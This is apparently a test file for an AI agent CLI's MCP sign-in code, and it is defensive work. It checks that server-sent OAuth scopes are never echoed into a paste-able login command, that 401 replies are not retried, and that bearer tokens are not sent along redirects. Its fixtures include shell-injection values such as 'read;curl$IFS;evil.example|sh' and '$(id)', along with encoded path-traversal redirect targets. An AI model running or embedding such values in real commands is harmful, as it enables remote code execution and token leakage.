import { describe, expect, it } from "vitest";
import type { AgentEvent } from "../../src/graph/events.ts";
import { challengeIn } from "../../src/tools/mcp/sign-in/sign-in.ts";
import type { Running, Told } from "../support/cli.ts";
import { asks, says } from "../support/model-server.ts";
import { openScene, type Scene, signal, signedInScene, signIn } from "../support/sign-in-scene.ts";

const goes = ["run", "go", "--mode", "full-auto", "--sandbox", "off"];
const json = { "content-type": "application/json" };

const settled = (ran: Told) =>
  ran.of("tool_call").flatMap(({ call }) => (["success", "error", "cancelled"].includes(call.status) ? [call] : []));

const refreshes = ({ server }: Scene): number =>
  server.seen.filter((line) => line === "POST /token refresh_token").length;

describe("rights that a server says it wants", () => {
  const command = "agent mcp login web --scope";

  it.each([
    ["read;curl$IFS;evil.example|sh"],
    ["$(id)"],
    ["`id`"],
    ["a&b"],
    ["x>y"],
    ["'"],
    ["-rf* ok"],
    [Array.from({ length: 11 }, (_, at) => `s${at}`).join(" ")],
    [`${"a".repeat(150)} ${"b".repeat(151)}`],
  ])("are no words of a command to paste where they are %s", async (scope) => {
    const { web, place } = await signedInScene();
    web.before = ({ response }) => {
      response.writeHead(403, { "www-authenticate": `Bearer error="insufficient_scope", scope="${scope}"` }).end();
      return true;
    };
    const { stderr } = await place.run(["mcp", "test", "web"]);
    expect(stderr).toContain("it wants further rights than your sign-in has");
    expect(stderr).toContain(`${command} NAME`);
    for (const one of scope.split(" ")) expect(stderr).not.toContain(one);
  });

  it("are where they are plain words", async () => {
    const { web, place } = await signedInScene();
    const scopes = ["mcp:read", "https://example.com/a.b-c_d"];
    web.before = ({ response }) => {
      const scope = scopes.join(" ");
      response.writeHead(403, { "www-authenticate": `Bearer error="insufficient_scope", scope="${scope}"` }).end();
      return true;
    };
    const { stderr } = await place.run(["mcp", "test", "web"]);
    expect(stderr).toContain(`${command} ${scopes.join(" --scope ")}`);
  });
});

describe("401 is no reason to do a call a second time", () => {
  it.each([
    ["where it is the call's answer", "Bearer", json],
    ["where it is the call's answer, of whatever kind", "Bearer", { "content-type": "text/plain" }],
    ["where it comes as a stream of events", "Bearer", { "content-type": "text/event-stream" }],
    ["where it does not say how to be asked", undefined, json],
  ])("%s", async (_, challenge, headers) => {
    const scene = await signedInScene([asks("mcp__web__echo", { text: "a" }), says("Done.")]);
    const { web, place } = scene;
    const usual = web.before;
    let done = 0;
    web.before = (asked) => {
      if (asked.message?.method !== "tools/call") return usual(asked);
      done += 1;
      const content = [{ type: "text", text: `done ${done}, but upstream said 401` }];
      const said = JSON.stringify({ jsonrpc: "2.0", id: asked.message.id, result: { content, isError: true } });
      const isStream = headers["content-type"] === "text/event-stream";
      asked.response.writeHead(401, { ...headers, ...(challenge && { "www-authenticate": challenge }) });
      asked.response.end(isStream ? `data: ${said}\n\n` : said);
      return true;
    };
    const ran = await place.json(goes);
    expect(settled(ran)).toMatchObject([{ status: "error" }]);
    expect([done, refreshes(scene)]).toEqual([1, 0]);
    if (headers === json) expect(JSON.stringify(settled(ran))).toContain("done 1, but upstream said 401");
  });

  it("where what it says has no end: that is not waited for", async () => {
    const scene = await signedInScene([asks("mcp__web__echo", { text: "a" }), says("Done.")]);
    const { web, place } = scene;
    const usual = web.before;
    let done = 0;
    web.before = (asked) => {
      if (asked.message?.method !== "tools/call") return usual(asked);
      done += 1;
      asked.response.writeHead(401, { ...json, "www-authenticate": "Bearer" });
      asked.response.write(`{"jsonrpc":"2.0","x":"${"x".repeat(100_000)}`);
      return true;
    };
    expect(settled(await place.json(goes))).toMatchObject([{ status: "error" }]);
    expect([done, refreshes(scene)]).toEqual([1, 0]);
  });
});

it("a token that was refused once, and then taken, is made anew when it is over", async () => {
  const calls = Array.from({ length: 5 }, (_, at) => asks("mcp__web__echo", { text: `c${at}` }));
  const scene = await signedInScene([...calls, says("Done.")]);
  const { web, place, server } = scene;
  const usual = web.before;
  let asked = 0;
  web.before = (exchange) => {
    if (exchange.message?.method !== "tools/call") return usual(exchange);
    asked += 1;
    if (asked === 1 || asked === 5) server.expire();
    // The second is the new token, which one of many machines behind that name does not know yet.
    if (asked !== 2) return usual(exchange);
    exchange.response.writeHead(401, { "www-authenticate": "Bearer" }).end();
    return true;
  };
  const ran = await place.json(goes);
  expect(settled(ran).map(({ status }) => status)).toEqual(["error", "success", "success", "success", "success"]);
  expect(refreshes(scene)).toBe(2);
});

describe("a token goes no further than the path that it is for", () => {
  it.each([307, 308])("where %d leads elsewhere on the same host; to what is below it, it does", async (status) => {
    const { web, server, place } = await signedInScene();
    const [token] = server.given;
    let to = "/other";
    const seen: [string | undefined, string | undefined][] = [];
    const usual = web.before;
    web.before = (asked) => {
      const { url, headers } = asked.request;
      seen.push([url, headers.authorization]);
      if (url !== "/mcp") return usual(asked);
      asked.response.writeHead(status, { location: to }).end();
      return true;
    };
    const coded = ["/mcp/..%2Fother", "/mcp/x/..%5c..%5cother", "/mcp/..;/other", "/mcp/%252e%252e%252fother"];
    for (const other of ["/other", "/mcp2", "/mcp/../other", ...coded, "/"]) {
      to = other;
      expect((await place.run(["mcp", "test", "web"])).stderr).toContain("which is not followed");
    }
    expect(seen.every(([url]) => url === "/mcp")).toBe(true);
    to = "/mcp/";
    expect(await place.run(["mcp", "test", "web"])).toMatchObject({ code: 0 });
    expect(seen).toContainEqual(["/mcp/", `Bearer ${token}`]);
  });
});

it("a server that led elsewhere before the person signed in gets no token there", async () => {
  const calls = ["a", "b"].map((text) => asks("mcp__web__echo", { text }));
  const scene = await openScene({ answers: [...calls, says("Done.")] });
  const { web, server, place } = scene;
  const usual = web.before;
  const seen: [string | undefined, string | undefined][] = [];
  web.before = (asked) => {
    const { request, response, message } = asked;
    if (request.url?.includes("well-known") === true || message?.method === "ping") return usual(asked);
    seen.push([request.url, request.headers.authorization]);
    if (request.url === "/mcp") response.writeHead(308, { location: "/other" }).end();
    if (message?.params?.arguments?.["text"] !== "a") return request.url === "/mcp";
    if (request.url === "/mcp") return true;
    const result = { content: [{ type: "text", text: "a" }] };
    void signIn(scene).then(() =>
      response.writeHead(200, json).end(JSON.stringify({ jsonrpc: "2.0", id: message.id, result })),
    );
    return true;
  };
  expect(await place.run(["mcp", "trust", "web", "--yes"])).toMatchObject({ code: 0 });
  const ran = await place.json(goes);
  expect(settled(ran)).toMatchObject([{ status: "success" }, { status: "error" }]);
  expect(JSON.stringify(settled(ran)[1])).toContain("which is not followed");
  const [token] = server.given;
  expect(seen).toContainEqual(["/mcp", `Bearer ${token}`]);
  expect(seen.filter(([url]) => url !== "/mcp").every(([, sent]) => sent === undefined)).toBe(true);
});

it("of several headers that say how to be asked, the one of bearers counts", async () => {
  const { web, place } = await openScene();
  const usual = web.before;
  web.before = (asked) => {
    if (asked.request.url?.includes("well-known") === true) return usual(asked);
    const headers = [`Basic realm="tools, bearer of nothing"`, `Bearer scope="tools"`];
    asked.response.writeHead(401, { "www-authenticate": headers }).end();
    return true;
  };
  const login = place.spawn(["mcp", "login", "web", "--yes"]);
  await login.shows("response_type=");
  login.child.kill("SIGINT");
  expect((await login.done).stdout).toContain(", for tools\n");
  expect((await place.run(["mcp", "trust", "web", "--yes"])).stderr).toContain("it wants you to sign in");
  expect(challengeIn(`Basic realm="a, bearer scope=b"`)).toBeUndefined();
});

describe("who stops is not kept waiting", () => {
  it("by an answer that does not come: nothing more is asked", async () => {
    const { web, server, place } = await openScene();
    const hung = signal();
    web.before = () => {
      hung.comes();
      return true;
    };
    const login = place.spawn(["mcp", "login", "web", "--yes"]);
    await hung.came;
    login.child.kill("SIGINT");
    expect(await login.done).toMatchObject({ code: 130, stderr: "not signed in: nothing changed\n" });
    expect([web.seen, server.seen]).toEqual([["POST ping"], []]);
  });

  it("by another process that makes the sign-in anew; of the message it is told that it was not sent", async () => {
    const { web, server, place } = await signedInScene([asks("mcp__web__echo", { text: "a" }), says("Done.")]);
    const [hung, refused] = [signal(), signal()];
    server.before = ({ form }) => {
      if (form.get("grant_type") === "refresh_token") hung.comes();
      return form.get("grant_type") === "refresh_token";
    };
    const usual = web.before;
    let holder: Running | undefined;
    let calls = 0;
    web.before = (asked) => {
      if (asked.message?.method !== "tools/call") return usual(asked);
      calls += 1;
      server.expire();
      // Another process has the sign-in by the time at which this one is refused.
      holder = place.spawn(["mcp", "test", "web"]);
      void hung.came.then(() => usual(asked)).then(refused.comes);
      return true;
    };
    const stopped = place.spawn([...goes, "--json"]);
    await refused.came;
    stopped.child.kill("SIGINT");
    const { code, stdout } = await stopped.done;
    expect(holder?.child.exitCode).toBe(null);
    holder?.child.kill("SIGKILL");
    await holder?.done;
    expect([code, calls]).toEqual([130, 1]);
    const told = stdout.split("\n").flatMap((line) => (line === "" ? [] : [JSON.parse(line) as AgentEvent]));
    // It was not let in, so that it may be done once more.
    expect(told.findLast((event) => event.type === "tool_call")).toMatchObject({ call: { status: "pending" } });
  });
});
